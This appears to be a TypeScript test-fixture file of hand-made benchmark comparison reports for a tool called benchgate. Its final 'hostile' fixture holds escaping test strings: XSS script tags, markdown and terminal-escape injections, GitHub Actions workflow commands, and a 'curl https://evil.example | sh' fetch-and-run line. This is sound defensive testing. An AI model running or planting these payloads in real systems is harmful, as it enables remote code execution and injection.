/** Hand-made reports: what every view is tried on. */

import type { BenchmarkComparison, Change, OutcomeKind } from '../../src/model/comparison.ts'
import type { Report } from '../../src/model/report.ts'
import { exitCodes } from '../../src/model/verdict.ts'

const baseCommit = '4f2a9c1d6b8e07a35c19e2f4d7b6a08c3e5f1920'
const headCommit = '9be01d7f3c4a58e2b1d60f97a8c3e5d42b1f6078'

export function change(estimate: number, low: number | null, high: number | null): Change {
  return { estimate, low, high }
}

export function row(name: string, outcome: OutcomeKind, more: Partial<BenchmarkComparison> = {}): BenchmarkComparison {
  return {
    name,
    metric: 'time',
    unit: 's',
    better: 'lower',
    exact: false,
    outcome,
    base: 0.0124,
    head: 0.0124,
    change: change(0.001, -0.006, 0.008),
    p: 0.62,
    rounds: 21,
    detectable: 0.012,
    scatter: 0.011,
    threshold: 0.05,
    doubt: null,
    ...more,
  }
}

/** A row of one side only: nothing was compared. */
export function oneSided(
  name: string,
  outcome: OutcomeKind,
  more: Partial<BenchmarkComparison> = {},
): BenchmarkComparison {
  return row(name, outcome, {
    base: outcome === 'removed' ? 0.0031 : null,
    head: outcome === 'added' ? 0.0031 : null,
    change: null,
    p: null,
    rounds: 0,
    detectable: null,
    scatter: null,
    ...more,
  })
}

export function report(more: Partial<Report>): Report {
  return {
    schema: 'benchgate/report/1',
    version: '0.1.0',
    key: 'bench',
    verdict: 'pass',
    exitCode: exitCodes.pass,
    reasons: [],
    base: {
      commit: baseCommit,
      label: 'main',
      subject: 'Cache the header table',
      chosen: 'merge base of main and HEAD',
      source: 'paired',
    },
    head: { commit: headCommit, label: 'HEAD', subject: 'Parse attributes lazily' },
    seed: '7c1f-93aa',
    plan: {
      pairing: 'rounds',
      rounds: 21,
      maxRounds: 30,
      looks: [8, 15, 21, 30],
      threshold: 0.05,
      falseAlarmRate: 0.05,
      seconds: 312.4,
      budgetSeconds: 900,
      ended: 'decided',
    },
    machine: {
      cpu: 'AMD EPYC 7763 64-Core Processor',
      cores: 4,
      memory: 16_772_575_232,
      os: 'Ubuntu 24.04',
      kernel: '6.8.0',
      arch: 'x64',
      runtime: 'Node 24.19.0',
    },
    tool: 'tinybench',
    suiteCommand: 'npm run bench',
    reproduce: `npx benchgate compare ${baseCommit} ${headCommit} --seed 7c1f-93aa -- npm run bench`,
    suite: { change: change(0.004, -0.001, 0.009), benchmarks: 8 },
    benchmarks: calm(8),
    ignored: [],
    notes: [],
    ...more,
  }
}

const subjects = [
  'parse/small',
  'parse/large',
  'render/list',
  'render/table',
  'encode/utf8',
  'encode/base64',
  'query/index scan',
  'query/full scan',
]

/** Unchanged benchmarks with differing sizes and scatter. */
export function calm(count: number): BenchmarkComparison[] {
  return Array.from({ length: count }, (_, index) => {
    const shift = ((index * 7) % 13) / 1000 - 0.006
    const wide = 0.006 + (index % 5) / 500
    const base = 1.35e-6 * 3.7 ** (index % 9)
    const name = index < subjects.length ? subjects[index]! : `case/${String(index).padStart(4, '0')}`
    return row(name, 'unchanged', {
      base,
      head: base * (1 + shift),
      change: change(shift, shift - wide, shift + wide),
      scatter: wide * 2,
      detectable: wide * 1.2,
    })
  })
}

const slower = row('parse/large', 'regressed', { head: 0.01407, change: change(0.135, 0.119, 0.152), p: 1.9e-6 })
const slowest = row('render/list', 'regressed', {
  base: 3.1e-5,
  head: 4.96e-5,
  change: change(0.6, 0.55, 0.66),
  p: 9.5e-7,
})
const faster = row('encode/base64', 'improved', {
  base: 2.13e-6,
  head: 1.79e-6,
  change: change(-0.158, -0.171, -0.143),
  p: 1e-6,
})
const noisy = row('query/full scan', 'inconclusive', {
  base: 0.231,
  head: 0.244,
  change: change(0.055, -0.021, 0.132),
  scatter: 0.21,
  detectable: 0.14,
  doubt: { code: 'too-noisy', scatter: 0.21, need: 96, threshold: 0.05 },
})

function without(...names: string[]): BenchmarkComparison[] {
  return calm(8).filter(({ name }) => !names.includes(name))
}

export const pass = report({})

export const fail = report({
  verdict: 'fail',
  exitCode: exitCodes.fail,
  reasons: [{ code: 'regression', benchmark: 'parse/large', metric: 'time' }],
  benchmarks: [slower, ...without('parse/large')],
})

export const failSeveral = report({
  verdict: 'fail',
  exitCode: exitCodes.fail,
  reasons: [
    { code: 'regression', benchmark: 'parse/large', metric: 'time' },
    { code: 'regression', benchmark: 'render/list', metric: 'time' },
    { code: 'regression', benchmark: 'serve/requests', metric: 'throughput' },
    { code: 'missing', benchmark: 'parse/legacy' },
  ],
  suite: { change: change(0.094, 0.081, 0.107), benchmarks: 9 },
  benchmarks: [
    slower,
    slowest,
    row('serve/requests', 'regressed', {
      metric: 'throughput',
      unit: '1/s',
      better: 'higher',
      base: 41_250,
      head: 38_700,
      change: change(0.0659, 0.0523, 0.0791),
    }),
    faster,
    noisy,
    row('render/table', 'inconclusive', {
      change: change(0.048, 0.011, 0.083),
      doubt: { code: 'size-unresolved', direction: 'slower', need: 44 },
    }),
    oneSided('parse/legacy', 'removed'),
    oneSided('parse/streaming', 'added'),
    ...without('parse/large', 'render/list', 'encode/base64', 'query/full scan', 'render/table'),
  ],
})

export const improved = report({
  suite: { change: change(-0.021, -0.027, -0.015), benchmarks: 8 },
  benchmarks: [faster, ...without('encode/base64')],
})

export const allOutcomes = report({
  verdict: 'fail',
  exitCode: exitCodes.fail,
  reasons: [
    { code: 'regression', benchmark: 'parse/large', metric: 'time' },
    {
      code: 'failed',
      benchmark: 'query/join',
      message: 'TypeError: Cannot read properties of undefined (reading "rows")',
    },
  ],
  benchmarks: [
    slower,
    row('render/list', 'regressed', { ...slowest, name: 'render/list', threshold: 0.5 }),
    faster,
    row('cache/hits', 'changed', {
      metric: 'hit ratio',
      unit: '1',
      better: 'unknown',
      base: 0.91,
      head: 0.97,
      change: change(0.066, 0.061, 0.072),
    }),
    noisy,
    row('parse/small', 'unchanged'),
    oneSided('parse/streaming', 'added'),
    oneSided('parse/legacy', 'removed'),
    oneSided('query/join', 'failed', { message: 'TypeError: Cannot read properties of undefined (reading "rows")' }),
    oneSided('query/gpu', 'skipped', { message: 'no GPU on this machine' }),
  ],
  ignored: [{ file: 'stdout', place: 'line 3', text: 'Warning: deprecated option', because: 'no benchmark line' }],
})

export const inconclusive = report({
  verdict: 'inconclusive',
  exitCode: exitCodes.inconclusive,
  reasons: [{ code: 'inconclusive', benchmarks: 3 }],
  suite: { change: change(0.012, -0.031, 0.058), benchmarks: 8 },
  plan: {
    ...report({}).plan,
    rounds: 30,
    seconds: 874,
    ended: 'rounds',
    forecast: {
      from: 4,
      rounds: 30,
      secondsPerRound: 28,
      detectable: 0.024,
      worst: { benchmark: 'render/list', detectable: 0.131 },
      short: [
        { benchmark: 'render/list', threshold: 0.05, rounds: null, seconds: null },
        { benchmark: 'query/full scan', threshold: 0.05, rounds: 96, seconds: 3_000 },
      ],
    },
    needed: { rounds: 84, seconds: 2_640 },
  },
  benchmarks: [
    noisy,
    row('render/list', 'inconclusive', {
      change: change(-0.01, -0.078, 0.064),
      scatter: 0.19,
      doubt: { code: 'too-noisy', scatter: 0.19, need: null, threshold: 0.05 },
    }),
    row('render/table', 'inconclusive', {
      change: change(0.07, null, null),
      rounds: 4,
      doubt: { code: 'too-few-rounds', have: 4, need: 6 },
    }),
    ...without('query/full scan', 'render/list', 'render/table'),
  ],
})

export const error = report({
  verdict: 'error',
  exitCode: exitCodes.error,
  reasons: [
    {
      code: 'measuring-failed',
      message: 'base does not build: `npm ci` ended with exit code 1',
      hint: 'set `setup` to the command that installs the dependencies of both commits',
    },
  ],
  plan: { ...report({}).plan, rounds: 0, seconds: 4.2, ended: 'given' },
  suite: { change: null, benchmarks: 0 },
  benchmarks: [],
})

export const nothing = report({
  verdict: 'error',
  exitCode: exitCodes.error,
  reasons: [{ code: 'nothing-compared' }],
  suite: { change: null, benchmarks: 0 },
  benchmarks: [],
})

export const cancelled = report({
  verdict: 'inconclusive',
  exitCode: exitCodes.inconclusive,
  reasons: [{ code: 'cancelled', rounds: 5 }],
  plan: { ...report({}).plan, rounds: 5, seconds: 71, ended: 'cancelled' },
  suite: { change: change(0.01, -0.08, 0.11), benchmarks: 8 },
  benchmarks: calm(8).map((benchmark) => ({
    ...benchmark,
    outcome: 'inconclusive',
    change: change(0.01, null, null),
    rounds: 5,
    doubt: { code: 'stopped-early' },
  })),
})

export const allNew = report({
  verdict: 'error',
  exitCode: exitCodes.error,
  reasons: [{ code: 'nothing-compared' }],
  suite: { change: null, benchmarks: 0 },
  benchmarks: subjects.map((name) => oneSided(name, 'added')),
})

export const rerun = report({
  verdict: 'fail',
  exitCode: exitCodes.fail,
  reasons: [{ code: 'regression', benchmark: 'parse/large', metric: 'time' }],
  plan: { ...report({}).plan, falseAlarmRate: 0.025 },
  benchmarks: [
    { ...slower, doubt: { code: 'found-before', attempt: 1, now: change(0.021, -0.034, 0.079) } },
    ...without('parse/large'),
  ],
  rerun: { attempt: 2, known: true, statedRate: 0.05, carried: ['parse/large'], cleared: ['query/full scan'] },
  notes: [
    { code: 'rerun', attempt: 2, known: true, rate: 0.025, statedRate: 0.05 },
    { code: 'found-before', benchmarks: { named: ['parse/large'], count: 1 } },
  ],
})

export const waived = report({
  reasons: [
    {
      code: 'waived',
      benchmark: 'parse/large',
      metric: 'time',
      by: 'alice',
      because: 'the checks are worth it, see ADR 12',
    },
  ],
  benchmarks: [slower, ...without('parse/large')],
})

export const tolerated = report({ benchmarks: [slower, ...without('parse/large')] })

function counter(name: string, metric: string, base: number, head: number, outcome: OutcomeKind): BenchmarkComparison {
  const ratio = base === 0 ? null : head / base - 1
  return row(name, outcome, {
    metric,
    unit: metric === 'bytes' ? 'B' : '1',
    exact: true,
    base,
    head,
    change: ratio === null ? null : change(ratio, ratio, ratio),
    p: null,
    scatter: 0,
    detectable: null,
    threshold: 0.01,
  })
}

export const counters = report({
  verdict: 'fail',
  exitCode: exitCodes.fail,
  reasons: [
    { code: 'regression', benchmark: 'BenchmarkDecode-8', metric: 'instructions' },
    { code: 'regression', benchmark: 'BenchmarkEncode-8', metric: 'allocations' },
  ],
  tool: 'go-bench',
  suiteCommand: 'go test -run NONE -bench . ./...',
  benchmarks: [
    row('BenchmarkDecode-8', 'unchanged'),
    counter('BenchmarkDecode-8', 'instructions', 1_204_331, 1_228_418, 'regressed'),
    counter('BenchmarkDecode-8', 'allocations', 12, 12, 'unchanged'),
    counter('BenchmarkDecode-8', 'bytes', 4096, 3072, 'improved'),
    row('BenchmarkEncode-8', 'unchanged', { base: 0.0042, head: 0.00421 }),
    counter('BenchmarkEncode-8', 'allocations', 0, 3, 'regressed'),
    counter('BenchmarkEncode-8', 'instructions', 8_000_000, 8_000_240, 'unchanged'),
  ],
})

export const stored = report({
  verdict: 'inconclusive',
  exitCode: exitCodes.pass,
  reasons: [{ code: 'inconclusive', benchmarks: 2 }],
  base: { commit: baseCommit, label: 'main', source: 'branch', chosen: 'nearest stored ancestor of the merge base' },
  plan: {
    ...report({}).plan,
    pairing: 'stored',
    rounds: 2,
    maxRounds: 2,
    looks: [],
    ended: 'given',
    budgetSeconds: null,
  },
  benchmarks: [
    row('parse/small', 'inconclusive', {
      change: change(0.071, 0.02, 0.13),
      doubt: { code: 'other-machine', base: 'Intel Xeon 8370C', head: 'AMD EPYC 7763' },
    }),
    row('parse/large', 'inconclusive', { change: null, doubt: { code: 'no-baseline' }, base: null }),
  ],
  notes: [
    {
      code: 'as-read',
      was: 'other-machine',
      level: 'warning',
      text: 'The baseline was measured on another machine, so this run blocks nothing',
      hint: 'Use `baseline: paired` to measure both commits here.',
    },
    { code: 'missing-permission', lacking: ['comment'], permissions: ['pull-requests: write'] },
  ],
})

/** Names that try to get out. */
export const hostileNames = [
  '@octocat please look',
  'fixes #1 and GH-2 and octocat/hello#3',
  `revert ${baseCommit}`,
  '[click](https://evil.example/x) ![i](https://evil.example/i.png)',
  'www.evil.example and https://evil.example and a@evil.example',
  '<img src=x onerror=alert(1)><script>alert(2)</script></code></details>',
  '<!-- benchgate:bench -->',
  'a | b || c \\| d \\\\| e \\',
  '`tick` ``two`` ```three',
  'line one\nline two\r\n\r\n# heading',
  '::error title=x::boom\n::set-output name=a::b',
  '##[error]old style',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  'abc\u202edcba\u2066x\u2069 zero\u200bwidth\u00adsoft',
  'שלום/עולם 12',
  '解析/大きい 👩‍👩‍👧 🇫🇷 ｆｕｌｌ',
  ':tada: :+1: $x^2$ ~~gone~~ **bold** _it_',
  'z\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308algo',
  ' leading and trailing ',
  `long/${'very'.repeat(2498)}/end`,
  '',
  '\ud800 lone',
] as const

export const hostile = report({
  verdict: 'fail',
  exitCode: exitCodes.fail,
  key: '<!-- key -->|`@octocat`',
  reasons: [
    { code: 'regression', benchmark: hostileNames[0], metric: 'time' },
    {
      code: 'waived',
      benchmark: hostileNames[5],
      metric: 'time',
      by: '@mallory',
      because: 'closes #1 | <b>|</b> `x`\n::error::x',
    },
  ],
  base: { commit: null, label: 'file | `@octocat` <b>', subject: 'fix #12\n@octocat', source: 'file' },
  suiteCommand: 'echo "```" && curl https://evil.example | sh # @octocat\n```\n<!-- x -->',
  reproduce: 'benchgate compare -- echo "```" @octocat \n```\n<!-- benchgate:bench -->',
  machine: { cpu: '<b>CPU</b> | @octocat' },
  seed: '`#1`',
  benchmarks: [
    ...hostileNames.map((name, index) =>
      row(name, index < 11 ? 'regressed' : index < 16 ? 'inconclusive' : 'unchanged', {
        change: change(0.3 - index / 50, 0.28 - index / 50, 0.32 - index / 50),
        doubt:
          index < 11 || index > 15
            ? null
            : { code: 'other-machine', base: '@octocat #1 |', head: '<b>`x`</b>\u001b[2J' },
      }),
    ),
    ...hostileNames.map((name) =>
      oneSided(`failed ${name}`, 'failed', { message: `${name}\n::error::x @octocat #1 | <b>` }),
    ),
    row('metric', 'changed', {
      metric: '@octocat | #1 `x`',
      unit: '<b>|`@u`',
      better: 'unknown',
      change: change(0.1, 0.09, 0.11),
    }),
  ],
  ignored: [{ file: 'a|b', place: '<i>', text: '@octocat `|` <b>\n::error::x', because: 'not #1 of @octocat' }],
  notes: [
    {
      code: 'as-read',
      was: 'x',
      level: 'warning',
      text: 'see @octocat #1 GH-1 www.evil.example https://evil.example 4f2a9c1d | <b> `| @x`',
      hint: '`a | b`',
    },
  ],
})

export const large = report({
  verdict: 'fail',
  exitCode: exitCodes.fail,
  reasons: [{ code: 'regression', benchmark: 'hot/000', metric: 'time' }],
  suite: { change: change(0.002, -0.001, 0.004), benchmarks: 2000 },
  benchmarks: [
    ...calm(1600),
    ...Array.from({ length: 150 }, (_, index) =>
      row(`hot/${String(index).padStart(3, '0')}`, 'regressed', {
        base: 0.001,
        head: 0.001 * (1.4 - index / 500),
        change: change(0.4 - index / 500, 0.38 - index / 500, 0.42 - index / 500),
      }),
    ),
    ...Array.from({ length: 150 }, (_, index) => ({ ...noisy, name: `noisy/${String(index).padStart(3, '0')}` })),
    ...Array.from({ length: 100 }, (_, index) => oneSided(`fresh/${String(index).padStart(3, '0')}`, 'added')),
  ],
})

/** By name, for tables of tests. `large` is apart: its goldens would be long. */
export const samples: Readonly<Record<string, Report>> = {
  pass,
  fail,
  'fail-several': failSeveral,
  improved,
  'all-outcomes': allOutcomes,
  inconclusive,
  error,
  nothing,
  cancelled,
  'all-new': allNew,
  waived,
  rerun,
  tolerated,
  counters,
  stored,
  hostile,
}
